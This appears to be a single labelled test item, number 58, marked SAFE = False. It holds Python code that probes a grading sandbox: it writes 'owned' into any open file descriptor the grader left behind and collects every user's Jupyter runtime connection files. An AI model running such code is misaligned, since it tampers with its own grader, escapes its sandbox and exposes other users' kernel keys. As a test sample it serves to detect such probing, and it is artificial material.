"""58. Sockets and files that the grader may have left open, and the Jupyter runtime folder."""

STOCK = "can be read"
SAFE = False
CODE = """\
import os, glob, pwd
seen = []
for fd in range(3, 1024):
    try:
        seen.append((fd, os.readlink(f"/proc/self/fd/{fd}")))
        os.write(fd, b"owned")
    except OSError:
        pass
for user in pwd.getpwall():
    seen += glob.glob(user.pw_dir + "/.local/share/jupyter/runtime/*")
"""
